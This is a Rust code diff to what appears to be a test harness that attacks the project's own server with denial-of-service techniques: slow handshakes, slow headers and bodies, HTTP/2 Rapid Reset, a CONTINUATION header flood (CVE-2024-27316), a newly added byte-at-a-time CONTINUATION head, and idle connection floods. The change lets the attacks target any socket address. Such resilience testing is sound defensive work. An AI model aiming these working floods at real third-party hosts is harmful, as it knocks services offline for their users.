@@ -3,16 +3,18 @@
 //! All but the silent socket have a proper certificate: what they do wrong comes after
 //! the handshake. Frames are written by hand, for no HTTP library would.
 
+use std::net::SocketAddr;
 use std::sync::Arc;
 use std::time::Duration;
 
+use rustls::ClientConfig;
 use rustls::pki_types::ServerName;
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::net::TcpStream;
 use tokio_rustls::TlsConnector;
 use tokio_rustls::client::TlsStream;
 
-use super::{Certificate, Deployment, Protocol};
+use super::Protocol;
 
 /// How long an attempt goes on at the most. Only against a host without limits.
 const PATIENCE: Duration = Duration::from_secs(30);
@@ -33,6 +35,8 @@ pub enum Attack {
     RapidReset,
     /// HTTP/2 header blocks without an end (CVE-2024-27316).
     HeaderFlood,
+    /// An HTTP/2 head whose CONTINUATION comes a byte at a time.
+    UnfinishedHead,
     /// A socket that says nothing at all.
     ConnectionFlood,
 }
@@ -63,29 +67,30 @@ const END_HEADERS: u8 = 4;
 
 impl Attack {
     /// All of them.
-    pub const ALL: [Self; 6] = [
+    pub const ALL: [Self; 7] = [
         Self::SlowHandshake,
         Self::SlowHeaders,
         Self::SlowBody,
         Self::RapidReset,
         Self::HeaderFlood,
+        Self::UnfinishedHead,
         Self::ConnectionFlood,
     ];
 
-    /// Try it once, to its end.
-    pub async fn attempt(self, deployment: &Deployment, certificate: &Certificate) -> Ended {
+    /// Try it once, to its end, against the host at `address` as a client with this TLS.
+    pub async fn attempt(self, address: SocketAddr, tls: &ClientConfig) -> Ended {
         let attempt = async {
             match self {
-                Self::SlowHandshake => silent(deployment, &[22, 3, 1, 1, 0, 1, 0]).await,
-                Self::ConnectionFlood => silent(deployment, &[]).await,
+                Self::SlowHandshake => silent(address, &[22, 3, 1, 1, 0, 1, 0]).await,
+                Self::ConnectionFlood => silent(address, &[]).await,
                 Self::SlowHeaders => {
                     let head =
                         b"GET /.well-known/jwks.json HTTP/1.1\r\nhost: localhost\r\nx-slow: ";
-                    drip(deployment, certificate, head).await
+                    drip(address, tls, Protocol::Http1, head, b"a").await
                 }
                 Self::SlowBody => {
                     let head = b"POST /v1/authentications HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{";
-                    drip(deployment, certificate, head).await
+                    drip(address, tls, Protocol::Http1, head, b"a").await
                 }
                 Self::RapidReset => {
                     let frames = (0..20_000_u32).map(|number| {
@@ -94,17 +99,20 @@ impl Attack {
                         pair.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                         pair
                     });
-                    flood(deployment, certificate, frames).await
+                    flood(address, tls, frames).await
+                }
+                Self::UnfinishedHead => {
+                    let mut begun = PREFACE.to_vec();
+                    begun.extend(frame(SETTINGS, 0, 0, &[]));
+                    begun.extend(frame(HEADERS, END_STREAM, 1, &request()));
+                    // Announced, of which a byte comes now and then.
+                    begun.extend(&frame(CONTINUATION, END_HEADERS, 1, &[0; 16_000])[..9]);
+                    drip(address, tls, Protocol::Http2, &begun, b"a").await
                 }
                 Self::HeaderFlood => {
                     let first = frame(HEADERS, END_STREAM, 1, &request());
                     let more = std::iter::repeat_with(|| frame(CONTINUATION, 0, 1, &field()));
-                    flood(
-                        deployment,
-                        certificate,
-                        [first].into_iter().chain(more.take(4_000)),
-                    )
-                    .await
+                    flood(address, tls, [first].into_iter().chain(more.take(4_000))).await
                 }
             }
         };
@@ -115,8 +123,8 @@ impl Attack {
 }
 
 /// Bytes, and then nothing.
-async fn silent(deployment: &Deployment, bytes: &[u8]) -> Ended {
-    let Ok(mut socket) = TcpStream::connect(deployment.address()).await else {
+async fn silent(address: SocketAddr, bytes: &[u8]) -> Ended {
+    let Ok(mut socket) = TcpStream::connect(address).await else {
         return Ended::Closed;
     };
     let _ = socket.write_all(bytes).await;
@@ -126,14 +134,20 @@ async fn silent(deployment: &Deployment, bytes: &[u8]) -> Ended {
 }
 
 /// A head, and then a byte now and then, until the host has enough.
-async fn drip(deployment: &Deployment, certificate: &Certificate, head: &[u8]) -> Ended {
-    let Some(stream) = connect(deployment, certificate, Protocol::Http1).await else {
+async fn drip(
+    address: SocketAddr,
+    tls: &ClientConfig,
+    protocol: Protocol,
+    head: &[u8],
+    drop: &[u8],
+) -> Ended {
+    let Some(stream) = connect(address, tls, protocol).await else {
         return Ended::Closed;
     };
     let (mut reads, mut writes) = tokio::io::split(stream);
     let dripping = async {
         if writes.write_all(head).await.is_ok() {
-            while writes.write_all(b"a").await.is_ok() && writes.flush().await.is_ok() {
+            while writes.write_all(drop).await.is_ok() && writes.flush().await.is_ok() {
                 tokio::time::sleep(DRIP).await;
             }
         }
@@ -156,11 +170,11 @@ async fn drip(deployment: &Deployment, certificate: &Certificate, head: &[u8]) -
 
 /// Frames, as fast as the host takes them.
 async fn flood(
-    deployment: &Deployment,
-    certificate: &Certificate,
+    address: SocketAddr,
+    tls: &ClientConfig,
     frames: impl Iterator<Item = Vec<u8>>,
 ) -> Ended {
-    let Some(stream) = connect(deployment, certificate, Protocol::Http2).await else {
+    let Some(stream) = connect(address, tls, Protocol::Http2).await else {
         return Ended::Closed;
     };
     let (mut reads, mut writes) = tokio::io::split(stream);
@@ -203,13 +217,13 @@ async fn flood(
 }
 
 async fn connect(
-    deployment: &Deployment,
-    certificate: &Certificate,
+    address: SocketAddr,
+    tls: &ClientConfig,
     protocol: Protocol,
 ) -> Option<TlsStream<TcpStream>> {
-    let mut config = deployment.client_config(Some(certificate));
+    let mut config = tls.clone();
     config.alpn_protocols = protocol.alpn();
-    let socket = TcpStream::connect(deployment.address()).await.ok()?;
+    let socket = TcpStream::connect(address).await.ok()?;
     let name = ServerName::try_from("localhost").expect("a name");
     TlsConnector::from(Arc::new(config))
         .connect(name, socket)
